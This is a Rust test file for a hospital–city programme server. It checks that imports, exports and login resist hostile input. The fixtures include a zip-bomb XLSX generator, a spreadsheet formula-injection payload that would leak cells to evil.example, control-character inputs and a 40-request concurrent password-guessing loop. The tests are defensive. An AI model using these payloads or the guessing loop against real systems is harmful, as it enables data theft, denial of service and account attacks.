//! Hostile input is normal input: files that once took the server down, formulas in exports,
//! control characters, oversized bodies and records still referred to — each answered with a
//! named error, on both engines, and the server goes on answering.

use crate::common::App;
use serde_json::json;

/// A workbook whose only cells are A1 and XFD1048576 (the 1.8 KB sheet that once made the
/// reader allocate 512 GiB).
fn sparse_workbook() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let ws = book.add_worksheet();
    ws.write(0, 0, "件名").unwrap();
    ws.write(1_048_575, 16_383, "x").unwrap();
    book.save_to_buffer().unwrap()
}

/// An XLSX of a few hundred kilobytes whose sheet unpacks to 200 MB.
fn zip_bomb() -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("xl/worksheets/sheet1.xml", opts).unwrap();
    let chunk = vec![b' '; 1024 * 1024];
    for _ in 0..200 {
        zip.write_all(&chunk).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

async fn post_raw(app: &App, path: &str, token: &str, body: Vec<u8>) -> crate::common::Resp {
    let req = axum::http::Request::builder()
        .method("POST")
        .uri(path)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/octet-stream")
        .body(axum::body::Body::from(body))
        .unwrap();
    app.request(req).await
}

fn first_problem(r: &crate::common::Resp) -> (String, String) {
    let v = r.json();
    let e = &v["errors"][0];
    (
        e["field"].as_str().unwrap_or_default().to_owned(),
        e["message"].as_str().unwrap_or_default().to_owned(),
    )
}

#[tokio::test]
async fn hostile_sheets_are_refused_by_name_and_the_server_stays_up() {
    let app = App::new().await;
    let doctor = app.user("doctor@example.jp", &app.hospital, false).await;
    let admin = app.user("admin@example.jp", &app.city, true).await;
    let p = app.programme_id.clone();
    for (what, body, limit) in [
        ("sparse", sparse_workbook(), "行数"),
        ("bomb", zip_bomb(), "展開後"),
    ] {
        for (path, token) in [
            (
                format!("/api/v1/programmes/{p}/needs/import?dry_run=true"),
                &doctor,
            ),
            (
                format!("/api/v1/programmes/{p}/deals/import?dry_run=true"),
                &admin,
            ),
            (
                format!("/api/v1/programmes/{p}/outcomes/import?dry_run=true"),
                &admin,
            ),
        ] {
            let r = post_raw(&app, &path, token, body.clone()).await;
            if r.status == 413 {
                // Past the upload limit before reading: refused just as plainly.
                assert!(
                    r.header("content-type")
                        .unwrap()
                        .starts_with("application/problem+json")
                );
                continue;
            }
            assert_eq!(r.status, 422, "{what} {path}: {}", r.text);
            let (field, message) = first_problem(&r);
            assert_eq!(field, "file", "{what}");
            assert!(
                message.contains(limit) || message.contains("圧縮率"),
                "{what}: the limit is named: {message}"
            );
        }
    }
    let health = app.api("GET", "/healthz", None, None).await;
    assert_eq!(health.status, 200);
}

#[tokio::test]
async fn a_body_past_the_limit_is_refused_as_problem_json() {
    let app = App::new().await;
    let admin = app.user("admin@example.jp", &app.city, true).await;
    let p = app.programme_id.clone();
    let r = post_raw(
        &app,
        &format!("/api/v1/programmes/{p}/outcomes/import"),
        &admin,
        vec![b'a'; 2 * 1024 * 1024],
    )
    .await;
    assert_eq!(r.status, 413);
    assert!(
        r.header("content-type")
            .unwrap()
            .starts_with("application/problem+json"),
        "{:?}",
        r.header("content-type")
    );
    assert_eq!(r.json()["status"], 413);
}

#[tokio::test]
async fn csv_exports_carry_no_live_formula_and_read_back_as_written() {
    let app = App::new().await;
    let admin = app.user("admin@example.jp", &app.city, true).await;
    let doctor = app.user("doctor@example.jp", &app.hospital, false).await;
    let p = app.programme_id.clone();
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&B2&C2,\"詳細\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
    ];
    for t in payloads {
        app.need(
            &doctor,
            json!({"title": t, "problem": "廊下の段差で点滴スタンドが倒れそうになる。", "disclosure": "members"}),
        )
        .await;
    }
    let (_, cookie) = {
        app.account("staff@city.example.jp", &app.city, false, false)
            .await;
        app.sign_in("staff@city.example.jp", crate::common::PASSWORD)
            .await
    };
    for format in ["csv", "sjis"] {
        let r = app
            .browse(
                "GET",
                &format!("/programmes/{p}/needs/export?format={format}"),
                &cookie,
                None,
            )
            .await;
        assert_eq!(r.status, 200);
        // Formula characters are ASCII in Shift_JIS too: the text as read shows them.
        for line in r.text.lines().skip(1) {
            let first = line.trim_start_matches('\u{feff}').trim_start_matches('"');
            assert!(
                !first.starts_with(['=', '+', '-', '@', '\t']),
                "{format}: a cell starts a formula: {line}"
            );
        }
    }
    // A deal's code name too.
    let firm = app
        .api(
            "POST",
            "/api/v1/organisations",
            Some(&admin),
            Some(json!({"kind": "company", "name": "甲精密株式会社", "name_kana": "コウセイミツ"})),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    app.api(
        "POST",
        &format!("/api/v1/programmes/{p}/deals"),
        Some(&admin),
        Some(json!({"kind": "attraction", "organisation_id": firm, "code_name": "=1+1"})),
    )
    .await;
    let admin_cookie = app.sign_in_admin_fresh("root@city.example.jp").await;
    let r = app
        .browse(
            "GET",
            &format!("/programmes/{p}/deals/export?format=csv"),
            &admin_cookie,
            None,
        )
        .await;
    assert!(r.text.contains("'=1+1"), "{}", r.text);
}

#[tokio::test]
async fn control_characters_are_refused_with_the_field_named() {
    let app = App::new().await;
    let doctor = app.user("doctor@example.jp", &app.hospital, false).await;
    let p = app.programme_id.clone();
    let r = app
        .api(
            "POST",
            &format!("/api/v1/programmes/{p}/needs"),
            Some(&doctor),
            Some(json!({"title": "点滴\u{0}スタンド", "problem": "段差で倒れる。"})),
        )
        .await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(first_problem(&r).0, "title");
    let r = app
        .api(
            "POST",
            &format!("/api/v1/programmes/{p}/needs"),
            Some(&doctor),
            Some(json!({"title": "点滴", "problem": "段差で倒れる。", "department": "\u{1b}[31m"})),
        )
        .await;
    assert_eq!(r.status, 422);
    assert_eq!(first_problem(&r).0, "department");
    let r = app
        .api("GET", "/api/v1/search?q=%00", Some(&doctor), None)
        .await;
    assert_eq!(r.status, 422, "{}", r.text);
    assert_eq!(first_problem(&r).0, "q");
    let r = app
        .api(
            "GET",
            "/api/v1/organisations?cursor=a%00b",
            Some(&doctor),
            None,
        )
        .await;
    assert_eq!(r.status, 422);
    let r = app
        .api("GET", "/api/v1/needs/%00", Some(&doctor), None)
        .await;
    assert_eq!(r.status, 404);
    assert!(r.header("content-type").unwrap().contains("problem+json"));
}

#[tokio::test]
async fn an_organisation_still_referred_to_is_not_deleted_and_the_answer_says_by_what() {
    let app = App::new().await;
    let admin = app.user("admin@example.jp", &app.city, true).await;
    let p = app.programme_id.clone();
    let clinic = app
        .api(
            "POST",
            "/api/v1/organisations",
            Some(&admin),
            Some(json!({"kind": "hospital", "name": "乙医院", "name_kana": "オツイイン"})),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let r = app
        .api(
            "POST",
            &format!("/api/v1/programmes/{p}/campaigns"),
            Some(&admin),
            Some(json!({"title": "病棟ニーズ調査", "organisation_id": clinic, "opens_on": "2026-11-01"})),
        )
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    let r = app
        .api(
            "DELETE",
            &format!("/api/v1/organisations/{clinic}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(r.status, 422, "a foreign key, not a 500: {}", r.text);
    let (field, message) = first_problem(&r);
    assert_eq!(field, "id");
    assert!(message.contains("ニーズ調査"), "{message}");
}

/// A second programme on the same installation, with its own secretariat (郡山市).
async fn second_programme(app: &App) -> (String, String) {
    let text = r#"
slug = "koriyama"
name = "郡山医療機器プロジェクト"
region = "郡山地域"
baseline_fiscal_year = 2015

[[members]]
name = "郡山市"
name_kana = "コオリヤマシ"
kind = "municipality"
roles = ["secretariat", "attraction"]
"#;
    let def = noguchi_domain::programme::ProgrammeDefinition::parse(text).unwrap();
    let id = app.db.store.load_programme(&def).await.unwrap();
    let city = app.db.store.programme(&id).await.unwrap().members[0]
        .organisation_id
        .clone();
    (id, city)
}

#[tokio::test]
async fn one_programmes_secretariat_reads_nothing_of_anothers_records_or_log() {
    let app = App::new().await;
    let (koriyama, koriyama_city) = second_programme(&app).await;
    let aizu = app.user("staff@city.example.jp", &app.city, false).await;
    let other = app
        .user("staff@koriyama.example.jp", &koriyama_city, false)
        .await;
    let firm = app
        .api(
            "POST",
            "/api/v1/organisations",
            Some(&aizu),
            Some(json!({"kind": "company", "name": "甲精密株式会社", "name_kana": "コウセイミツ"})),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let deal = app
        .api(
            "POST",
            &format!("/api/v1/programmes/{}/deals", app.programme_id),
            Some(&aizu),
            Some(json!({"kind": "attraction", "organisation_id": firm, "code_name": "Project SAKURA"})),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    // Koriyama's secretariat: no deal, no ledger row, no audit record of Aizu's.
    assert_eq!(
        app.api("GET", &format!("/api/v1/deals/{deal}"), Some(&other), None)
            .await
            .status,
        404
    );
    let r = app
        .api(
            "POST",
            &format!("/api/v1/programmes/{}/deals", app.programme_id),
            Some(&other),
            Some(json!({"kind": "attraction", "organisation_id": firm})),
        )
        .await;
    assert_eq!(
        r.status, 403,
        "a grant of Koriyama does not open Aizu's deals"
    );
    let log = app
        .api("GET", "/api/v1/audit?limit=200", Some(&other), None)
        .await;
    assert_eq!(log.status, 200);
    assert!(
        !log.text.contains("SAKURA"),
        "another programme's log leaked"
    );
    assert!(!log.text.contains(&deal));
    // The directory is the installation's: both secretariats keep it and read its log.
    assert!(log.text.contains("甲精密株式会社"), "{}", log.text);
    let aizu_log = app
        .api("GET", "/api/v1/audit?limit=200", Some(&aizu), None)
        .await;
    assert!(aizu_log.text.contains(&deal), "its own programme's records");
    assert!(
        !aizu_log.text.contains(&koriyama),
        "nor the other programme's creation"
    );
}

#[tokio::test]
async fn a_patient_named_in_a_title_stays_out_of_the_audit_log_and_the_lists() {
    let app = App::new().await;
    let doctor = app.user("doctor@example.jp", &app.hospital, false).await;
    let admin = app.user("admin@example.jp", &app.city, true).await;
    let n = app
        .need(
            &doctor,
            json!({"title": "鈴木一郎さん（82歳）の転倒", "problem": "夜間にベッドから転倒した。", "disclosure": "members"}),
        )
        .await;
    assert_eq!(n["screening"]["held"], true);
    let id = n["id"].as_str().unwrap().to_owned();
    // The list and the export show a neutral title while the need is held.
    app.account("staff@city.example.jp", &app.city, false, false)
        .await;
    let (_, cookie) = app
        .sign_in("staff@city.example.jp", crate::common::PASSWORD)
        .await;
    let p = app.programme_id.clone();
    let list = app
        .browse("GET", &format!("/programmes/{p}/needs"), &cookie, None)
        .await;
    assert!(
        !list.text.contains("鈴木"),
        "a held need's title in the list"
    );
    assert!(list.text.contains("確認待ちのニーズ"));
    let export = app
        .browse(
            "GET",
            &format!("/programmes/{p}/needs/export?format=csv"),
            &cookie,
            None,
        )
        .await;
    assert!(!export.text.contains("鈴木"));
    // Corrected, then released: the name was never in the log, nor kept in the findings.
    let r = app
        .api(
            "PATCH",
            &format!("/api/v1/needs/{id}"),
            Some(&doctor),
            Some(json!({"title": "高齢患者のベッドからの転倒"})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert!(
        !r.text.contains("鈴木"),
        "the excerpts of the revised text are gone: {}",
        r.text
    );
    let r = app
        .api(
            "POST",
            &format!("/api/v1/needs/{id}/release"),
            Some(&doctor),
            None,
        )
        .await;
    assert_eq!(r.status, 200);
    let log = app
        .api("GET", "/api/v1/audit?limit=200", Some(&admin), None)
        .await;
    assert_eq!(log.status, 200);
    assert!(!log.text.contains("鈴木"), "the audit log keeps no patient");
    assert!(
        log.text.contains("高齢患者のベッドからの転倒"),
        "the released title is"
    );
}

/// Forty wrong passwords for one account sent at once: each attempt is counted before its
/// password is checked, so only the five the limit allows are checked (the rest answer 429),
/// and the account is locked, for the right password too. (Counting after the check let all
/// forty through.)
#[tokio::test]
async fn concurrent_guesses_at_one_account_get_only_the_allowed_checks() {
    use axum::body::Body;
    use http_body_util::BodyExt;
    use tower::ServiceExt;
    let app = App::new().await;
    app.account("staff@city.example.jp", &app.city, false, false)
        .await;
    let mut requests = Vec::new();
    for _ in 0..40 {
        let form = app.browse("GET", "/login", "", None).await;
        let pre = form.cookie("noguchi_pre").unwrap();
        let body = serde_urlencoded::to_string([
            ("csrf", crate::common::csrf_of(&form.text).as_str()),
            ("email", "staff@city.example.jp"),
            ("password", "not-the-password"),
            ("next", "/"),
        ])
        .unwrap();
        requests.push(
            axum::http::Request::post("/login")
                .header("cookie", format!("noguchi_pre={pre}"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(Body::from(body))
                .unwrap(),
        );
    }
    let tasks: Vec<_> = requests
        .into_iter()
        .map(|req| {
            let router = app.router.clone();
            tokio::spawn(async move {
                let resp = router.oneshot(req).await.unwrap();
                let status = resp.status().as_u16();
                let _ = resp.into_body().collect().await;
                status
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for t in tasks {
        statuses.push(t.await.unwrap());
    }
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let limited = statuses.iter().filter(|s| **s == 429).count();
    assert!(checked <= 5, "{checked} passwords checked: {statuses:?}");
    assert_eq!(checked + limited, 40, "{statuses:?}");
    let (locked, cookie) = app
        .sign_in("staff@city.example.jp", crate::common::PASSWORD)
        .await;
    assert_eq!(locked.status, 429);
    assert!(cookie.is_empty());
}

/// A value of the wrong type is named as the record calls it: a need's `title` is its 件名
/// (it was labelled 役職, a person's title), and in a list of records the position is given.
#[tokio::test]
async fn a_field_of_the_wrong_type_is_named_as_its_record_calls_it() {
    let app = App::new().await;
    let doctor = app.user("doctor@example.jp", &app.hospital, false).await;
    let p = app.programme_id.clone();
    let r = app
        .api(
            "POST",
            &format!("/api/v1/programmes/{p}/needs"),
            Some(&doctor),
            Some(json!({"title": 5, "problem": "移乗の負担を減らしたい"})),
        )
        .await;
    assert_eq!(r.status, 422, "{}", r.text);
    let (field, message) = first_problem(&r);
    assert_eq!(field, "title");
    assert!(message.contains("件名"), "{message}");
    assert!(!message.contains("役職"), "{message}");
}
